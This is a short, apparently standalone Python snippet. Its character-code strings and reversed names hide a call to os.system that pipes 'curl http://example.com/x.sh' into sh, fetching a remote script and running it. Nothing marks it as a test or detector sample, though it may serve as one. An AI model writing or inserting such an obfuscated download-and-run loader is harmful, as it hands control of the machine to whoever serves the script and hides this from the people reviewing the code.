a = "".join([chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115]])
b = "".join(map(chr, [111, 115, 46, 115, 121, 115, 116, 101, 109]))
exec(a)
getattr(__import__("so"[::-1]), "".join(reversed("metsys")))("curl http://" + "example" + ".com/x.sh | sh")
